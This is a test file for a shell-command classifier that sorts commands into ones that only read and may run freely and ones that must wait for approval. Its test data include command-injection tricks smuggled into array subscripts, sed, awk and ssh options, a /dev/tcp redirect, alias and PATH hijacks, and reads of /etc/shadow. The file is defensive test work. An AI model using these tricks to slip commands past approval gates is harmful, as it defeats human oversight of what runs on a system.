// Texts that a shell would read, and whether they may run without asking. What runs freely must be known to do no lasting harm.

import t from 'tap';
import { classifyShell, textCharsMax } from '../../policies/classify/shell/classifier.ts';

const free = [
  'ls -la /var/log | grep -v foo | sort | uniq -c | sort -rn | head -5',
  'cat /etc/passwd',
  "ps aux | awk '{print $2}' | xargs echo",
  "ps aux | awk '$3 > 1.0 {print $2, $11}'",
  'journalctl -u nginx --since today | tail -100',
  'systemctl status nginx',
  'grep -r "foo" /etc 2>/dev/null | wc -l',
  "sed -n '1,10p' /etc/hosts",
  "sed 's/a/b/g; s|x|y|' f",
  'date +%s',
  'echo "$(date): $(hostname)"',
  'if [ -f /etc/hosts ]; then echo yes; else echo no; fi',
  'git log --oneline -5',
  'rsync --server --sender -vlogDtpre.iLsfxCIvu . /data',
  'scp -f /etc/hosts',
  "find / -name '*.log' -size +1M -exec ls -l {} \\;",
  'find /var/"$x" -name a',
  "bash -c 'ls -l; cat foo'",
  "sh <<'EOF'\nls\nEOF",
  'command -v python3',
  'echo hi 2>&1 >/dev/null',
  '((x=1)); echo $((x++))',
  'declare x=5',
  'LC_ALL=C sort f',
  'for f in *.log; do wc -l "$f"; done',
  '/usr/bin/ls',
  'timeout 5 ls',
  'tar tzf x.tgz',
  'cd /tmp && ls',
  'eval "ls -l"',
  'clear; help test; stty -a; stty size; cal',
];

const waits = [
  'stty sane',
  'stty -F /dev/pts/1 size',
  'stty $x',
  "declare -a 'x=([$(rm victim)]=1)'",
  'declare x=$y',
  'local "x=$y"',
  'jobs -x rm victim',
  "wait -p 'a[$(rm victim)]' 1",
  "getopts a 'b[$(rm victim)]'",
  '/b?n/r[m] victim',
  'find . -name victim -delete',
  "[[ -v 'a[$(rm victim)]' ]]",
  "read 'a[$(rm victim)]' <<< 1",
  'ls() { rm victim; }; ls',
  '(foo(){ :; }); foo',
  'exec 3>victim',
  "sed '1e rm victim' script.sh",
  "sed 's/a/b/w victim' f",
  "sed 's/a/b/e' f",
  'sed -s -i.bak s/a/b/ f',
  "sed 'y/a/b/;w f' x",
  "ssh -o ProxyCommand='rm victim' -o BatchMode=yes x",
  'sudo -n cat /etc/shadow',
  'find "$x" -name a',
  'find . -exec sh -c \'rm "$1"\' _ {} \\;',
  'find . -fprint victim',
  'xargs rm < list',
  'ls | xargs -I{} {} x',
  'bash -c "$x"',
  'cat <<EOF\n$(rm x)\nEOF',
  'cat f | sh',
  "python3 - <<'EOF'\nprint(1)\nEOF",
  "trap 'rm x' EXIT; ls",
  'env FOO=bar ls',
  "env -S 'ls;rm x'",
  'exec >/dev/tcp/1.2.3.4/99',
  'echo $(( $(cat f) ))',
  'x=1; for i in 1 2; do echo $((x)); read x; done',
  'declare -i x=1',
  'export PATH=/tmp:$PATH',
  'PATH=.; ls',
  'sort $f',
  'sort --outp=victim x',
  'sort -nuovictim x',
  'sort *',
  'uniq -c a b',
  'kubectl get pods -A --kubeconfig=x',
  'docker exec x ls',
  'hostname foo',
  './ls',
  '/tmp/ls',
  'ls\r',
  'alias ls=rm',
  'hash -p /tmp/x ls',
  'tar -tf x --to-command=rm',
  'tar -tf host:x',
  'rsync --server -vlogDtpre.iLsfxCIvu . /data',
  'rsync --server --sender --remove-source-files -re.iLs . /data',
  'scp -t /tmp',
  'git log --outp=x',
  'git log --no-pager -c x',
  'echo ${!x}',
  'echo ${x:$y}',
  'echo "${a[$i]}"',
  '[ $x = y ]',
  'printf "$x" y',
  'awk \'{print > "f"}\' x',
  'awk \'BEGIN{"rm x" | getline}\'',
  "watch 'rm x'",
  'time rm x',
  'busybox rm x',
  'su - root -c ls',
  'curl http://x/',
  'echo a | tee f',
  '. ~/.bashrc',
  'vim f',
  'zsh -c ls',
  '{ ls; } > out',
  '~/bin/x',
  'echo @(a|b)',
];

const isFree = (text: string, terminal = false): boolean => {
  const { understood, summary } = classifyShell(text, terminal);
  return understood && (summary.access === 'read' || summary.access === 'session');
};

t.test('what only reads is free', async (t) => {
  for (const text of free) t.ok(isFree(text), text);
});

t.test('what changes, runs something unknown or cannot be read is not', async (t) => {
  for (const text of waits) t.notOk(isFree(text), text);
});

t.test('pagers start programs, so on a terminal they need their option', async (t) => {
  t.notOk(isFree('journalctl -u x', true));
  t.ok(isFree('journalctl --no-pager -u x', true));
  t.notOk(isFree('git log', true));
  t.ok(isFree('git --no-pager log', true));
});

t.test('effects name what is touched', async (t) => {
  const effects = (text: string) => classifyShell(text, false).summary.effects.map((it) => `${it.verb} ${it.object ?? '?'}`);
  t.match(effects('rm -rf /srv/data'), ['run rm', 'file-remove /srv/data']);
  t.match(effects('echo x >> /etc/hosts'), ['file-write /etc/hosts', 'run echo']);
  t.match(effects('sudo -u bob cat f'), ['run sudo', 'privilege bob', 'run cat', 'file-read f']);
  t.match(effects('cat "$x"'), ['run cat', 'file-read ?']);
  t.match(effects('mosh-server new -s'), ['shell mosh-server', 'network ?']);
});

t.test('a rule that denies sees what is named even when another part is not understood', async (t) => {
  const it = classifyShell('rm -rf /srv/data; $x', false);
  t.equal(it.understood, false);
  t.equal(it.summary.access, 'unknown');
  t.ok(it.summary.effects.some(({ verb, object }) => verb === 'file-remove' && object === '/srv/data'));
});

t.test('risks lie on the words that they speak of', async (t) => {
  const text = 'ls; rm -f victim';
  const [risk] = classifyShell(text, false).statements.flatMap(({ risks }) => risks);
  t.equal(text.slice(risk?.start, risk?.end), 'victim');
});

t.test('a program in the own home is one that nobody knows, and not a riddle', async (t) => {
  for (const text of ['~/bin/x -v', 'nohup ~/bin/x &', 'sudo ~/bin/x', 'timeout 5 ~/bin/x']) {
    const { understood, summary } = classifyShell(text, false);
    t.ok(understood, text);
    t.match(
      summary.effects.find(({ object }) => object === '~/bin/x'),
      { verb: 'run', access: 'unknown' },
      text,
    );
  }
  // Another's home may not exist, and then it is another word; what is put together is another still.
  for (const text of ['~bob/x', '~', '~/', '~+/x', '"~$x"/y', '~$x/y', '~/$x', '~/"$x"', '~/{ls,x}', '~/*', '~"/x"'])
    t.notOk(classifyShell(text, false).understood, text);
  t.ok(!isFree('~/ls'));
});

t.test('limits: long, deep, many and odd texts are not understood, and fast', async (t) => {
  const start = performance.now();
  for (const text of [
    `ls ${'x'.repeat(textCharsMax)}`,
    `${'echo $('.repeat(5000)}ls${')'.repeat(5000)}`,
    `${'('.repeat(3000)}ls${')'.repeat(3000)}`,
    Array.from({ length: 600 }, () => 'ls').join(';'),
    'ls\0rm x',
    'ls \uFFFD',
    'ls \uD800',
    `${'command '.repeat(20)}ls`,
  ]) {
    t.equal(classifyShell(text, false).understood, false, text.slice(0, 20));
  }
  t.ok(performance.now() - start < 5000);
});
